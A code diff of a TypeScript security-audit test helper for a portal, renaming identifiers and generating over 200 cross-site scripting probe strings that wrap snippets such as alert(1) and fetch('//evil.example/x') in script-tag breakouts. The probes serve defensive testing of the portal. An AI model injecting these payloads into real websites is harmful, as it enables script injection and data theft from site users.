@@ -11,13 +11,13 @@ import { sendNotification } from '@portal/contracts/notifications/http'
 import { buildUrl, type AnyRoute } from '@portal/contracts/shared/route'
 import { limits } from '@portal/contracts/shared/rules'
 import { callRoute, seededEmail } from '../testing/api-client.ts'
-import { eventually, readOutbox } from '../testing/portal-process.ts'
+import { eventually, readDevMailbox } from '../testing/portal-process.ts'
 import type { AuditPortal } from './audit-portal.ts'
-import { call, callerAddress } from './call.ts'
-import type { Failures } from './row.ts'
+import { sendRaw, callerAddress } from './raw-http.ts'
+import type { Failures } from './audit-result.ts'
 
 /** What each text tries to run. The page is prepared so that any of it leaves a mark. */
-const acts = [
+const payloads = [
   'window.__hit=1',
   'alert(1)',
   "fetch('//evil.example/x')",
@@ -26,7 +26,7 @@ const acts = [
 ] as const
 
 /** Places in which a text could become code, in the ways that are known. */
-const carriers: readonly ((act: string) => string)[] = [
+const injections: readonly ((act: string) => string)[] = [
   (act) => `<script>${act}</script>`,
   (act) => `"><script>${act}</script>`,
   (act) => `'"></textarea></title></style><script>${act}</script>`,
@@ -85,7 +85,7 @@ const oddTexts: readonly string[] = [
 /** `count` different texts of all kinds, the same each time; there are somewhat more than 200. */
 export const hostileTexts = (count: number): readonly string[] => {
   const odd = oddTexts.slice(0, Math.ceil(count / 3))
-  const scripted = acts.flatMap((act) => carriers.map((carrier) => carrier(act)))
+  const scripted = payloads.flatMap((act) => injections.map((carrier) => carrier(act)))
   const wanted = Math.min(count - odd.length, scripted.length)
   // Spread over all of them, so that a small run has every kind, too.
   const picked = Array.from({ length: wanted }, (_, n) => scripted[Math.floor((n * scripted.length) / wanted)] ?? '')
@@ -115,7 +115,7 @@ export const createWriter = (portal: AuditPortal, failures: Failures) => {
     headers: Readonly<Record<string, string>>,
     body: object,
   ): Promise<boolean> => {
-    const answer = await call(portal.address, {
+    const answer = await sendRaw(portal.address, {
       method,
       path,
       headers: { 'content-type': 'application/json', ...headers },
@@ -214,7 +214,7 @@ export const register = async (
   const begun = { ...details, personalEmail: account.email, password: account.password }
   if (!(await post('a registration', initiateRegistration, headers, begun))) return undefined
   const sent = await eventually('the code was sent', async () =>
-    (await readOutbox(portal.dataDir)).find(({ to, code }) => to === account.email && code !== undefined),
+    (await readDevMailbox(portal.dataDir)).find(({ to, code }) => to === account.email && code !== undefined),
   )
   const codes = { email: account.email, mobileNumber, otpEmail: sent.code }
   return (await post('a registration', verifyRegistration, headers, codes)) ? account : undefined
